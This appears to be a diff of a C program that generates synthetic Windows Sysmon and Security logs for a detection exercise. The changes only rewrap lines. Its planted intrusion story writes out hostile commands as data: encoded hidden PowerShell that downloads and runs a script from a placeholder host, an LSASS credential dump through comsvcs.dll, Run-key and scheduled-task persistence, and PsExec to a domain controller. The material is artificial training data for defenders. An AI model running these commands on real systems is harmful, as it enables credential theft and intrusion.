@@ -6,8 +6,10 @@
 #define SYSTEM_USER "NT AUTHORITY\\SYSTEM"
 #define S32 "C:\\Windows\\System32\\"
 /* IEX (New-Object Net.WebClient).DownloadString('https://cdn.metrics-sync.invalid/a') in base64 of UTF-16LE. */
-#define ENCODED "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE" \
-	"AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAG0AZQB0AHIAaQBjAHMALQBzAHkAbgBjAC4AaQBuAHYAYQBsAGkAZAAvAGEAJwApAA=="
+#define ENCODED \
+	"powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA" \
+	"ZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAG0AZQB0AHIA" \
+	"aQBjAHMALQBzAHkAbgBjAC4AaQBuAHYAYQBsAGkAZAAvAGEAJwApAA=="
 #define OFFICE "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
 
 struct buf *
@@ -52,7 +54,8 @@ done(struct company *c, struct buf *b)
 static void
 guid(struct buf *b, const char *key, int pid, int64_t at)
 {
-	put_strf(b, key, "{747F3D96-%04X-%04X-%04X-000000001200}", (unsigned)(pid * 40503 & 0xffff), (unsigned)(at / SECOND & 0xffff),
+	put_strf(b, key, "{747F3D96-%04X-%04X-%04X-000000001200}", (unsigned)(pid * 40503 & 0xffff), (unsigned)(at / SECOND
+		& 0xffff),
 		(unsigned)(pid & 0xffff));
 }
 
@@ -102,38 +105,55 @@ sysmon_start(struct company *c, int64_t at, const char *host, const struct proce
 }
 
 static const struct process usual[] = {
-	{S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", S32 "services.exe", "C:\\Windows\\system32\\services.exe",
+	{S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", S32 "services.exe",
+		"C:\\Windows\\system32\\services.exe",
 		SYSTEM_USER, "svchost.exe", 0, 688, 0, 0},
-	{S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k wsappx -p -s AppXSvc", S32 "services.exe", "C:\\Windows\\system32\\services.exe",
+	{S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k wsappx -p -s AppXSvc", S32 "services.exe",
+		"C:\\Windows\\system32\\services.exe",
 		SYSTEM_USER, "svchost.exe", 0, 688, 0, 0},
-	{S32 "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
-		S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", USER, "backgroundTaskHost.exe", 0, 892, 0, 0},
-	{S32 "RuntimeBroker.exe", S32 "RuntimeBroker.exe -Embedding", S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", USER,
+	{S32 "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" "
+		"-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
+		S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", USER, "backgroundTaskHost.exe", 0,
+		892, 0, 0},
+	{S32 "RuntimeBroker.exe", S32 "RuntimeBroker.exe -Embedding", S32 "svchost.exe",
+		"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", USER,
 		"RuntimeBroker.exe", 0, 892, 0, 0},
-	{S32 "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe14_", S32 "SearchIndexer.exe",
+	{S32 "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" "
+		"Global\\UsGthrFltPipeMssGthrPipe14_", S32 "SearchIndexer.exe",
 		"C:\\Windows\\system32\\SearchIndexer.exe /Embedding", SYSTEM_USER, "SearchProtocolHost.exe", 0, 5120, 0, 0},
-	{S32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", S32 "taskhostw.exe", "taskhostw.exe", SYSTEM_USER,
+	{S32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", S32 "taskhostw.exe",
+		"taskhostw.exe", SYSTEM_USER,
 		"CONHOST.EXE", 0, 4460, 0, 0},
-	{"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
-		"--lang=en-GB --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=118", "C:\\Program Files\\Google\\Chrome\\Application\\"
-		"chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", USER, "chrome.exe", 0, 7216, 0, 0},
-	{OFFICE "EXCEL.EXE", "\"" OFFICE "EXCEL.EXE\" \"C:\\Users\\m.okafor\\Documents\\payables-2026-03.xlsx\"", "C:\\Windows\\explorer.exe",
+	{"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+		"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
+		"--lang=en-GB --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=118",
+		"C:\\Program Files\\Google\\Chrome\\Application\\"
+		"chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", USER, "chrome.exe", 0, 7216,
+		0, 0},
+	{OFFICE "EXCEL.EXE", "\"" OFFICE "EXCEL.EXE\" \"C:\\Users\\m.okafor\\Documents\\payables-2026-03.xlsx\"",
+		"C:\\Windows\\explorer.exe",
 		"C:\\Windows\\Explorer.EXE", USER, "Excel.exe", 0, 4032, 0, 0},
-	{OFFICE "OUTLOOK.EXE", "\"" OFFICE "OUTLOOK.EXE\"", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", USER, "Outlook.exe", 0, 4032, 0, 0},
-	{S32 "taskhostw.exe", "taskhostw.exe Install $(Arg0)", S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
+	{OFFICE "OUTLOOK.EXE", "\"" OFFICE "OUTLOOK.EXE\"", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", USER,
+		"Outlook.exe", 0, 4032, 0, 0},
+	{S32 "taskhostw.exe", "taskhostw.exe Install $(Arg0)", S32 "svchost.exe",
+		"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
 		SYSTEM_USER, "taskhostw.exe", 0, 1344, 0, 0},
 	{S32 "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", S32 "svchost.exe",
 		"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", SYSTEM_USER, "Wmiprvse.exe", 0, 892, 0, 0},
-	{"C:\\Program Files\\Brackwater\\Inventory\\agent.exe", "\"C:\\Program Files\\Brackwater\\Inventory\\agent.exe\" --collect", S32 "services.exe",
+	{"C:\\Program Files\\Brackwater\\Inventory\\agent.exe", "\"C:\\Program Files\\Brackwater\\Inventory\\agent.exe\" "
+		"--collect", S32 "services.exe",
 		"C:\\Windows\\system32\\services.exe", SYSTEM_USER, "agent.exe", 0, 688, 0, 0},
 };
 
 static void
 other(struct company *c, int64_t at)
 {
-	static const char *const dll[] = {"bcrypt.dll", "msvcp140.dll", "wintypes.dll", "propsys.dll", "dwmapi.dll", "cryptnet.dll"};
-	static const char *const key[] = {"HKU\\S-1-5-21-2184503221-1184203399-3318203941-1123\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\LastTime",
-		"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\SequenceNumber", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\Perf"};
+	static const char *const dll[] = {"bcrypt.dll", "msvcp140.dll", "wintypes.dll", "propsys.dll", "dwmapi.dll",
+		"cryptnet.dll"};
+	static const char *const key[] = {
+		"HKU\\S-1-5-21-2184503221-1184203399-3318203941-1123\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\LastTime",
+		"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\SequenceNumber",
+		"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\Perf"};
 	struct rng *r = &c->r;
 	struct process p = PICK(r, usual);
 	struct buf *b;
@@ -189,8 +209,10 @@ security(struct company *c, int64_t at, int id, const char *name, const char *va
 	static const char seq[2] = {LOG_SEQ};
 
 	put_open(b, NULL);
-	put_raw(b, "Event", "{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},\"System\":{\"Provider\":"
-		"{\"#attributes\":{\"Name\":\"Microsoft-Windows-Security-Auditing\",\"Guid\":\"54849625-5478-4994-A5BA-3E3B0328C30D\"}}");
+	put_raw(b, "Event",
+		"{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},\"System\":{\"Provider\":"
+		"{\"#attributes\":{\"Name\":\"Microsoft-Windows-Security-Auditing\","
+		"\"Guid\":\"54849625-5478-4994-A5BA-3E3B0328C30D\"}}");
 	put_num(b, "EventID", id);
 	put_raw(b, "Level", "0");
 	put_raw(b, "TimeCreated", "{\"#attributes\":{\"SystemTime\":\"");
@@ -225,13 +247,15 @@ noise_sysmon(struct company *c)
 	for (unsigned i = 0; i < 2300 * c->scale; i++)
 		other(c, office_time(r));
 	for (unsigned i = 0; i < 150 * c->scale; i++)
-		security(c, office_time(r), rng_chance(r, 600) ? 4634 : 5379, "TargetName", "MicrosoftAccount:target=SSO_POP_Device", "Type", "0");
+		security(c, office_time(r), rng_chance(r, 600) ? 4634 : 5379, "TargetName",
+		"MicrosoftAccount:target=SSO_POP_Device", "Type", "0");
 }
 
 /* ---- the intruders ---- */
 
 static void
-runs(struct company *c, int64_t at, const char *program, const char *original, const char *line, int pid, const char *technique, const char *what)
+runs(struct company *c, int64_t at, const char *program, const char *original, const char *line, int pid,
+	const char *technique, const char *what)
 {
 	struct process p = {program, line, S32 "WindowsPowerShell\\v1.0\\powershell.exe",
 		ENCODED, USER, original, pid, 8816, 0, 0};
@@ -243,9 +267,12 @@ runs(struct company *c, int64_t at, const char *program, const char *original, c
 static void
 phish(struct company *c)
 {
-	struct process word = {OFFICE "WINWORD.EXE", "\"" OFFICE "WINWORD.EXE\" /n \"C:\\Users\\m.okafor\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
-		"Content.Outlook\\Q7K2LX0P\\invoice-4471.docm\" /o \"\"", OFFICE "OUTLOOK.EXE", "\"" OFFICE "OUTLOOK.EXE\"", USER, "WinWord.exe", 8204, 6120, 0, 0};
-	struct process shell = {S32 "WindowsPowerShell\\v1.0\\powershell.exe", ENCODED, word.image, word.line, USER, "PowerShell.EXE", 8816, 8204, 0, 0};
+	struct process word = {OFFICE "WINWORD.EXE", "\"" OFFICE "WINWORD.EXE\" /n "
+		"\"C:\\Users\\m.okafor\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
+		"Content.Outlook\\Q7K2LX0P\\invoice-4471.docm\" /o \"\"", OFFICE "OUTLOOK.EXE", "\"" OFFICE "OUTLOOK.EXE\"",
+		USER, "WinWord.exe", 8204, 6120, 0, 0};
+	struct process shell = {S32 "WindowsPowerShell\\v1.0\\powershell.exe", ENCODED, word.image, word.line, USER,
+		"PowerShell.EXE", 8816, 8204, 0, 0};
 	struct buf *b;
 
 	b = sysmon_open(c, AT(11, 8, 33, 51), HOST, 11, "File created (rule: FileCreate)");
@@ -279,18 +306,26 @@ phish(struct company *c)
 static void
 look_around(struct company *c)
 {
-	runs(c, AT(11, 8, 38, 14), S32 "whoami.exe", "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", 10404, "T1033", "whoami");
-	runs(c, AT(11, 8, 38, 40), S32 "net.exe", "net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain", 10408, "T1069.002",
+	runs(c, AT(11, 8, 38, 14), S32 "whoami.exe", "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", 10404,
+		"T1033", "whoami");
+	runs(c, AT(11, 8, 38, 40), S32 "net.exe", "net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" "
+		"/domain", 10408, "T1069.002",
 		"domain admins listed");
-	runs(c, AT(11, 8, 39, 5), S32 "nltest.exe", "nltestrk.exe", "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts", 10412, "T1482", "trusts listed");
-	runs(c, AT(11, 8, 39, 33), S32 "ipconfig.exe", "ipconfig.exe", "\"C:\\Windows\\system32\\ipconfig.exe\" /all", 10416, "T1016", "network settings");
-	runs(c, AT(11, 8, 41, 52), S32 "reg.exe", "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneSync /t REG_SZ /d "
+	runs(c, AT(11, 8, 39, 5), S32 "nltest.exe", "nltestrk.exe", "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts",
+		10412, "T1482", "trusts listed");
+	runs(c, AT(11, 8, 39, 33), S32 "ipconfig.exe", "ipconfig.exe", "\"C:\\Windows\\system32\\ipconfig.exe\" /all", 10416,
+		"T1016", "network settings");
+	runs(c, AT(11, 8, 41, 52), S32 "reg.exe", "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
+		"/v OneSync /t REG_SZ /d "
 		"C:\\Users\\m.okafor\\AppData\\Roaming\\onesync.exe /f", 10420, "T1547.001", "autostart entry");
-	runs(c, AT(11, 8, 52, 9), S32 "rundll32.exe", "RUNDLL32.EXE", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 724 "
+	runs(c, AT(11, 8, 52, 9), S32 "rundll32.exe", "RUNDLL32.EXE", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
+		"MiniDump 724 "
 		"C:\\Users\\Public\\l.dmp full", 10436, "T1003.001", "LSASS dumped by comsvcs.dll");
-	runs(c, AT(11, 8, 58, 30), S32 "schtasks.exe", "schtasks.exe", "schtasks /create /sc minute /mo 30 /tn \"OneSync Update\" /tr "
+	runs(c, AT(11, 8, 58, 30), S32 "schtasks.exe", "schtasks.exe",
+		"schtasks /create /sc minute /mo 30 /tn \"OneSync Update\" /tr "
 		"\"powershell -w hidden -f C:\\Users\\Public\\s.ps1\" /ru SYSTEM", 10428, "T1053.005", "scheduled task");
-	runs(c, AT(11, 9, 39, 40), "C:\\Users\\Public\\PsExec64.exe", "psexec.c", "C:\\Users\\Public\\PsExec64.exe -accepteula \\\\dc01 -u "
+	runs(c, AT(11, 9, 39, 40), "C:\\Users\\Public\\PsExec64.exe", "psexec.c",
+		"C:\\Users\\Public\\PsExec64.exe -accepteula \\\\dc01 -u "
 		"BRACKWATER\\adm.tveit -s cmd.exe", 10432, "T1569.002", "PsExec to dc01");
 }
 
@@ -307,7 +342,8 @@ lsass(struct company *c)
 	put_num(b, "TargetProcessId", 724);
 	put_str(b, "TargetImage", S32 "lsass.exe");
 	put_str(b, "GrantedAccess", "0x1fffff");
-	put_str(b, "CallTrace", S32 "ntdll.dll+9d4c4|" S32 "KERNELBASE.dll+2c13e|" S32 "dbgcore.DLL+6ceb|" S32 "comsvcs.dll+2b1a8");
+	put_str(b, "CallTrace", S32 "ntdll.dll+9d4c4|" S32 "KERNELBASE.dll+2c13e|" S32 "dbgcore.DLL+6ceb|" S32
+		"comsvcs.dll+2b1a8");
 	put_str(b, "SourceUser", USER);
 	put_str(b, "TargetUser", SYSTEM_USER);
 	done(c, b);
@@ -326,7 +362,8 @@ story_windows(struct company *c)
 	look_around(c);
 	lsass(c);
 	security(c, AT(11, 8, 58, 30) + 50000, 4698, "TaskName", "\\OneSync Update", "TaskContent",
-		"<Task><Exec><Command>powershell</Command><Arguments>-w hidden -f C:\\Users\\Public\\s.ps1</Arguments></Exec></Task>");
+		"<Task><Exec><Command>powershell</Command><Arguments>-w hidden -f "
+		"C:\\Users\\Public\\s.ps1</Arguments></Exec></Task>");
 	log_plant(&c->log[WS_SECURITY], "T1053.005", "scheduled task");
 	security(c, AT(11, 9, 39, 39), 4648, "TargetUserName", "adm.tveit", "TargetServerName", "dc01." DOMAIN);
 	log_plant(&c->log[WS_SECURITY], "T1078.002", "logon with explicit credentials");
